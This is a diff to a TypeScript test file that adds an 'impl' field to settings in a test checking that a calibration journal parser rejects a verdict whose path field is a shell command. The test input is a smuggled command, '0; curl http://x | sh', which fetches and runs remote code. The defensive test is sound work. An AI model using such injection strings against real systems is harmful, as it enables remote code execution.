@@ -36,7 +36,7 @@ describe('text from report files on a terminal', () => {
   });
 
   it('a calibrate journal whose failure path is a shell command is refused naming the field', () => {
-    const settings = { profile: 'quick' as const, claims: ['forward-bound'], runs: null, plant: null };
+    const settings = { profile: 'quick' as const, claims: ['forward-bound'], runs: null, plant: null, impl: null };
     const verdict = { id: 'forward-bound', profile: 'quick', seed: 1, control: false, runs: 1, undecided: 0, undecidedReasons: {}, figures: {}, status: 'fail', path: '0; curl http://x | sh', counterexample: {}, message: 'm' };
     const text = journalHeaderLine(settings) + journalEntryLine({ seed: 1, claim: 'forward-bound', seconds: 1, verdict: verdict as Verdict });
     expect(() => parseCalibrationJournal(text, 'c.jsonl', settings)).toThrow(/^c\.jsonl:2:verdict\.path="0; curl http:\/\/x \| sh" must be a fast-check replay path/);
